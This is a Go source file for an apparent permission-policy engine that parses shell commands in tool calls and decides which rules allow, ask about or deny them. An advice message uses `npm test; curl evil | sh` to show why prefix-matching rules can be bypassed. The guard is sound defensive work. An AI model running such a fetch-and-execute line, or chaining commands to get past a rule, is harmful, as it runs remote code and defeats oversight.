package policy

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"

	"cel.dev/cel-go/cel"
	"cel.dev/cel-go/common/ast"
	"cel.dev/cel-go/common/operators"
)

// Shell is what a shell guard finds in a text for a shell. Conditions see it as
// facts.shell, and it decides what rules match that name a command.
type Shell struct {
	Parsed bool   `json:"parsed"`
	Why    string `json:"why,omitempty"` // it was not

	// Commands are all simple commands of the text, those inside substitutions among them.
	Commands      []ShellCommand  `json:"commands"`
	Pipes         int             `json:"pipes"`
	Redirects     []ShellRedirect `json:"redirects"`
	Substitutions int             `json:"substitutions"` // $x, $(x), `x`, <(x), $((x))
	Assignments   int             `json:"assignments"`
	Functions     int             `json:"functions"`
	Background    bool            `json:"background"`
	Compound      bool            `json:"compound"`  // there are loops, conditions, subshells or blocks
	Ambiguous     bool            `json:"ambiguous"` // bash, sh and zsh read it differently
}

// ShellCommand is one command, word by word, quotes taken away.
type ShellCommand struct {
	Name    string   `json:"name"`
	Args    []string `json:"args"`
	Literal bool     `json:"literal"` // every word is what stands there
	Known   int      `json:"known"`   // so many words, from the first, are; the rest depends on what the shell finds
}

// ShellRedirect is where a command's input or output goes.
type ShellRedirect struct {
	Op      string `json:"op"`
	Path    string `json:"path"` // "": it names no file, as 2>&1 does
	Literal bool   `json:"literal"`
}

// ShellWords reads the text of a command as a rule has it: words, quoted where they must
// be, with nothing that a shell would replace.
type ShellWords func(text string) ([]string, error)

// Command is a command that rules name: its words, and whether any further words may
// follow, which a last word * says.
type Command struct {
	Words []string
	More  bool
}

// CommandOf is the command that these words name.
func CommandOf(words []string) Command {
	if n := len(words) - 1; n > 0 && words[n] == "*" {
		return Command{words[:n], true}
	}
	return Command{words, false}
}

// Is reports whether a command is this one, word for word.
func (c Command) Is(words []string) bool {
	return len(words) >= len(c.Words) && slices.Equal(words[:len(c.Words)], c.Words) && (c.More || len(words) == len(c.Words))
}

// may reports whether a command can turn out to be this one: the words that are known do
// not say that it is another.
func (c Command) may(cmd ShellCommand) bool {
	words := cmd.words()
	if cmd.Literal {
		return c.Is(words)
	}
	known := words[:min(cmd.Known, len(words))]
	n := min(len(known), len(c.Words))
	return slices.Equal(known[:n], c.Words[:n]) && (c.More || len(known) <= len(c.Words))
}

func (c ShellCommand) words() []string {
	return append([]string{c.Name}, c.Args...)
}

// allows reports whether a text does nothing but run the command, and redirects nothing to a
// file that is not writable: a rule that allows must be sure of it.
func (c Command) allows(s *Shell, writable func(path string) bool) bool {
	return s.Parsed && !s.Ambiguous && !s.Background && !s.Compound && s.Substitutions+s.Assignments+s.Functions == 0 && len(s.Commands) > 0 &&
		!slices.ContainsFunc(s.Commands, func(cmd ShellCommand) bool { return !cmd.Literal || !c.Is(cmd.words()) }) &&
		!slices.ContainsFunc(s.Redirects, func(r ShellRedirect) bool {
			return !r.Literal || r.Path != "" && r.Path != "/dev/null" && (writable == nil || !writable(r.Path))
		})
}

// concerns reports whether a text may run the command at all: that is enough for a rule
// that asks or denies.
func (c Command) concerns(s *Shell) bool {
	return !s.Parsed || s.Ambiguous || slices.ContainsFunc(s.Commands, c.may)
}

// shellOf is what a shell guard found in a call; nil: none looked.
func shellOf(facts json.RawMessage) *Shell {
	var f struct {
		Shell *Shell `json:"shell"`
	}
	if len(facts) == 0 || json.Unmarshal(facts, &f) != nil {
		return nil
	}
	return f.Shell
}

// Advice is what should be written otherwise in a document, though it is valid: rule by
// rule, the ids and why.
func (p *Policy) Advice() (all []Problem) {
	if p == nil {
		return nil
	}
	for i := range p.rules {
		if r := &p.rules[i]; r.comparesText {
			all = append(all, Problem{InRules, i, "when", fmt.Sprintf(
				"rule %q compares the text of a command, in which anything may follow: `npm test; curl evil | sh` begins with npm test, too. Name the command: command: \"npm test\"", r.ID)})
		}
	}
	return all
}

// comparing are the functions of conditions that look at a text as a text.
var comparing = []string{"startsWith", "endsWith", "contains", "matches"}

// comparesText reports whether a condition looks at the command of a call as a text.
func comparesText(condition *cel.Ast, tools Pattern, guards []GuardConfig) bool {
	found := false
	ast.PreOrderVisit(condition.NativeRep().Expr(), ast.NewExprVisitor(func(e ast.Expr) {
		if e.Kind() != ast.CallKind || !slices.Contains(comparing, e.AsCall().FunctionName()) {
			return
		}
		of := e.AsCall().Target()
		if !e.AsCall().IsMemberFunction() && len(e.AsCall().Args()) > 0 {
			of = e.AsCall().Args()[0]
		}
		found = found || slices.ContainsFunc(guards, func(g GuardConfig) bool {
			pattern, err := ParsePattern(g.Tool)
			return err == nil && pattern.overlaps(tools) && isArgument(of, g.Arg)
		})
	}))
	return found
}

// isArgument reports whether an expression is the argument that a JSON pointer names:
// args.command, or args["command"].
func isArgument(e ast.Expr, pointer string) bool {
	switch name := strings.TrimPrefix(pointer, "/"); e.Kind() {
	case ast.SelectKind:
		s := e.AsSelect()
		return s.FieldName() == name && s.Operand().Kind() == ast.IdentKind && s.Operand().AsIdent() == "args"
	case ast.CallKind:
		c := e.AsCall()
		return c.FunctionName() == operators.Index && len(c.Args()) == 2 && c.Args()[0].Kind() == ast.IdentKind && c.Args()[0].AsIdent() == "args" &&
			c.Args()[1].Kind() == ast.LiteralKind && c.Args()[1].AsLiteral().Value() == name
	}
	return false
}
